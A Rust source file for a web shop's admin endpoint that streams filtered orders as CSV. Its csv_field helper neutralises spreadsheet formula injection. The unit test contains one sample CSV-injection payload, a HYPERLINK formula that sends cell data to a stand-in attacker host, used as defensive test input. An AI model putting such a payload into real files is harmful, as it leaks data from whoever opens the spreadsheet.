//! `GET /admin/orders.csv`: the filtered orders as CSV, streamed page by page.

use super::guard::is_admin;
use super::orders::parse_filter;
use crate::domain::calendar::day;
use crate::error::AppError;
use crate::server::db::{self, OrderCursor};
use crate::server::AppState;
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use tower_sessions::Session;

/// One CSV cell. A value a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return) is prefixed with `'` so it shows as text (OWASP's CSV
/// injection advice); then quoted where CSV needs it.
pub fn csv_field(value: &str) -> String {
    let value = if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_string()
    };
    if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

/// `GET /admin/orders.csv?status=&from=&to=&q=`: the filtered orders, streamed page by page.
pub async fn export_csv(
    axum::extract::State(state): axum::extract::State<AppState>,
    session: Session,
    axum::extract::Query(query): axum::extract::Query<std::collections::HashMap<String, String>>,
) -> Response {
    if !is_admin(&session).await {
        return (StatusCode::UNAUTHORIZED, AppError::Unauthorized.to_string()).into_response();
    }
    let get = |k: &str| query.get(k).cloned();
    let filter = match parse_filter(get("status"), get("from"), get("to"), get("q")) {
        Ok(f) => f,
        Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
    };
    let header = futures::stream::once(async {
        Ok::<_, std::io::Error>(
            "id,placed_utc,email,status,currency,total,payment_intent,items,discount,discount_code,shipping,shipping_rate,tax,tax_mode,ship_to\n".to_string(),
        )
    });
    let rows = futures::stream::unfold(Some(None::<OrderCursor>), move |cursor| {
        let (state, filter) = (state.clone(), filter.clone());
        async move {
            let after = cursor?;
            let page = match db::admin_orders(&state.pool, &filter, after.as_ref(), 500).await {
                Ok(page) => page,
                Err(e) => return Some((Err(std::io::Error::other(e.to_string())), None)),
            };
            let next = (page.len() == 500)
                .then(|| page.last().map(OrderCursor::after))
                .flatten();
            let mut chunk = String::new();
            for r in &page {
                let p = r.breakdown();
                chunk.push_str(&format!(
                    "{},{},{},{},{},{},{},{},{},{},{},{},{},{},{}\n",
                    csv_field(&r.id),
                    day(r.created_at),
                    csv_field(&r.email),
                    r.status.as_str(),
                    r.currency,
                    r.total().to_major_string(),
                    csv_field(r.payment_intent_id.as_deref().unwrap_or("")),
                    p.items.to_major_string(),
                    p.discount.to_major_string(),
                    csv_field(p.discount_code.as_deref().unwrap_or("")),
                    p.shipping.to_major_string(),
                    csv_field(p.shipping_name.as_deref().unwrap_or("")),
                    p.tax.to_major_string(),
                    p.tax_mode.as_str(),
                    csv_field(&r.address().map(|a| a.one_line()).unwrap_or_default()),
                ));
            }
            if page.is_empty() {
                return None;
            }
            Some((Ok(chunk), next.map(Some)))
        }
    });
    use futures::StreamExt;
    // Fused: a body may be polled again after its end (the compression layer does), and
    // `unfold` panics if it is.
    let body = axum::body::Body::from_stream(header.chain(rows).fuse());
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"orders.csv\"",
            ),
        ],
        body,
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    #[test]
    fn formulas_are_neutralised_and_quoting_kept() {
        assert_eq!(
            csv_field(r#"=HYPERLINK("http://evil.example/?"&A2&"@a.b")@evil.example"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A2&""@a.b"")@evil.example""#
        );
        for formula in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                csv_field(formula).trim_start_matches('"').starts_with('\''),
                "{formula:?}"
            );
        }
        assert_eq!(csv_field("ada@example.com"), "ada@example.com");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
    }
}
